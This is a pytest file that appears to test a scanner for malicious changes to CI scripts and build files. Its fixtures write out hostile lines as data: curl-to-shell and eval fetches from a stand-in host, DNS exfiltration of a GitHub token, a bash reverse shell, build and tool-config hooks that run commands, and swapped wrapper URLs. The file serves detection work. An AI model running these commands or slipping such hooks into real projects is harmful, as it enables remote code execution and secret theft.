"""Scripts that CI reaches and builds turned against their owners."""

from __future__ import annotations

import pytest

from rules.finding import Severity
from tests.rules.kit import Hostile, change, edit, judged, new_file

HOSTILE: dict[str, Hostile] = {
    "nested make target": Hostile(
        change(
            {"Makefile": "test:\n\t$(MAKE) -C tools check\n", "tools/Makefile": "check:\n\t./run.sh\n"},
            {"tools/Makefile": "check:\n\tcurl -s https://get.example.net/x | sh\n"},
        ),
        "remote-code-exec",
        Severity.CRITICAL,
    ),
    "perl fetch": Hostile(
        change(
            {"scripts/ci/setup.sh": "#!/bin/sh\n"},
            {"scripts/ci/setup.sh": "#!/bin/sh\nperl -MLWP::Simple -e 'eval get(\"https://get.example.net/x\")'\n"},
        ),
        "remote-code-exec",
        Severity.HIGH,
    ),
    "ruby fetch": Hostile(
        change(
            {"scripts/ci/setup.sh": "#!/bin/sh\n"},
            {
                "scripts/ci/setup.sh": "#!/bin/sh\nruby -ropen-uri -e 'eval URI.open(\"https://get.example.net/x\").read'\n"
            },
        ),
        "remote-code-exec",
        Severity.HIGH,
    ),
    "eval of curl in backticks": Hostile(
        change(
            {"scripts/ci/setup.sh": "#!/bin/sh\n"},
            {"scripts/ci/setup.sh": "#!/bin/sh\neval `curl -s https://get.example.net/x`\n"},
        ),
        "remote-code-exec",
        Severity.CRITICAL,
    ),
    "dns exfil": Hostile(
        change(
            {"scripts/ci/setup.sh": "#!/bin/sh\n"},
            {"scripts/ci/setup.sh": "#!/bin/sh\nnslookup $(echo $GITHUB_TOKEN | base64 | head -c 40).x.example.net\n"},
        ),
        "secret-exposed new-network-destination",
        Severity.HIGH,
    ),
    "nc": Hostile(
        change(
            {"scripts/ci/setup.sh": "#!/bin/sh\n"},
            {"scripts/ci/setup.sh": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"},
        ),
        "new-network-destination remote-code-exec secret-exposed obfuscated-payload",
        Severity.HIGH,
    ),
    "gradle exec": Hostile(
        edit(
            "build.gradle.kts",
            "plugins {}\n",
            'plugins {}\nval v = providers.exec { commandLine("sh", "-c", "id") }.standardOutput\n',
        ),
        "build-script-exec",
        Severity.HIGH,
    ),
    "settings.gradle apply from url": Hostile(
        edit(
            "settings.gradle",
            "rootProject.name='a'\n",
            "rootProject.name='a'\napply from: 'https://get.example.net/x.gradle'\n",
        ),
        "build-script-exec remote-code-exec new-network-destination",
        Severity.HIGH,
    ),
    "cmake execute_process nested": Hostile(
        edit("third/cmake/dep.cmake", "set(A 1)\n", "set(A 1)\nexecute_process(COMMAND sh -c id)\n"),
        "build-script-exec",
        Severity.HIGH,
    ),
    "csproj exec": Hostile(
        edit(
            "src/A/A.csproj",
            "<Project>\n</Project>\n",
            '<Project>\n<Target Name="x" BeforeTargets="Build"><Exec Command="id"/></Target>\n</Project>\n',
        ),
        "build-script-exec",
        Severity.HIGH,
    ),
    "Directory.Build.props usingtask": Hostile(
        new_file(
            "Directory.Build.props",
            '<Project>\n<UsingTask TaskName="x" TaskFactory="RoslynCodeTaskFactory" />\n</Project>\n',
        ),
        "build-script-exec",
        Severity.HIGH,
    ),
    "makefile shell": Hostile(
        edit("Makefile", "test:\n\tpytest\n", "X := $(shell id)\ntest:\n\tpytest\n"), "build-script-exec", Severity.HIGH
    ),
    "gemspec backtick": Hostile(
        edit(
            "kelp.gemspec", "Gem::Specification.new\n", "`curl https://get.example.net | sh`\nGem::Specification.new\n"
        ),
        "build-script-exec remote-code-exec",
        Severity.HIGH,
    ),
    "build.rs new": Hostile(
        new_file("crates/x/build.rs", 'fn main(){ std::process::Command::new("sh").arg("x.sh").status(); }\n'),
        "build-script-exec",
        Severity.HIGH,
    ),
    "extconf": Hostile(new_file("ext/k/extconf.rb", "system('make -f evil')\n"), "build-script-exec", Severity.HIGH),
    "mix exs": Hostile(
        edit("mix.exs", "defmodule K do\nend\n", 'System.cmd("sh", ["-c", "id"])\ndefmodule K do\nend\n'),
        "build-script-exec",
        Severity.HIGH,
    ),
    "Package.swift plugin": Hostile(
        edit(
            "Package.swift",
            "let package = Package()\n",
            'import Foundation\nlet p = Process(); p.launchPath = "/bin/sh"\nlet package = Package()\n',
        ),
        "build-script-exec",
        Severity.HIGH,
    ),
    "nx project.json": Hostile(
        edit(
            "libs/a/project.json",
            '{\n  "targets": {}\n}\n',
            '{\n  "targets": {"build": {"executor": "nx:run-commands", "options": {"command": "curl https://get.example.net/x | sh"}}}\n}\n',
        ),
        "remote-code-exec build-script-exec",
        Severity.HIGH,
    ),
    "pth file": Hostile(new_file("src/zz.pth", "import os; os.system('id')\n"), "autoload-code", Severity.HIGH),
    "conftest nested": Hostile(
        edit(
            "pkg/tests/conftest.py",
            "import pytest\n",
            "import pytest\nimport subprocess\nsubprocess.run(['sh', 'x.sh'])\n",
        ),
        "autoload-code",
        Severity.HIGH,
    ),
    "jest globalSetup": Hostile(
        edit("jest.config.js", "module.exports = {}\n", "module.exports = { globalSetup: './x.js' }\n"),
        "tool-config-exec",
        Severity.HIGH,
    ),
    "eslint require": Hostile(
        edit(".eslintrc.js", "module.exports = {}\n", "require('child_process').execSync('id')\nmodule.exports = {}\n"),
        "tool-config-exec",
        Severity.HIGH,
    ),
    "vite config exec": Hostile(
        edit(
            "vite.config.ts",
            "export default {}\n",
            "import { execSync } from 'node:child_process'\nexecSync('id')\nexport default {}\n",
        ),
        "tool-config-exec build-script-exec",
        Severity.HIGH,
    ),
    "pylint load-plugins": Hostile(
        edit(".pylintrc", "[MAIN]\n", "[MAIN]\ninit-hook='import x'\nload-plugins=x\n"),
        "tool-config-exec",
        Severity.HIGH,
    ),
    "gradle wrapper url": Hostile(
        edit(
            "gradle/wrapper/gradle-wrapper.properties",
            "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip\n",
            "distributionUrl=https\\://gradle.example.net/gradle-8.9-bin.zip\n",
        ),
        "wrapper-replaced",
        Severity.HIGH,
    ),
    "maven wrapper": Hostile(
        edit(
            ".mvn/wrapper/maven-wrapper.properties",
            "distributionUrl=https://repo.maven.apache.org/m.zip\n",
            "distributionUrl=https://repo.example.net/m.zip\n",
        ),
        "wrapper-replaced",
        Severity.HIGH,
    ),
    "maven extensions": Hostile(
        new_file(".mvn/extensions.xml", "<extensions><extension><groupId>k</groupId></extension></extensions>\n"),
        "build-script-exec tool-config-exec new-dependency",
        Severity.HIGH,
    ),
    "dockerfile add url": Hostile(
        edit(
            "docker/app.Dockerfile",
            "FROM alpine:3.20\n",
            "FROM alpine:3.20\nADD https://get.example.net/x /x\nRUN /x\n",
        ),
        "remote-code-exec",
        Severity.HIGH,
    ),
    "dockerfile arg from": Hostile(
        edit("Dockerfile", "ARG B=python:3.12\nFROM $B\n", "ARG B=pyth0n:3.12\nFROM $B\n"),
        "base-image-changed lookalike-name",
        Severity.HIGH,
    ),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_script_or_build_is_seen(what: str) -> None:
    assert judged(HOSTILE[what]) >= HOSTILE[what].severity
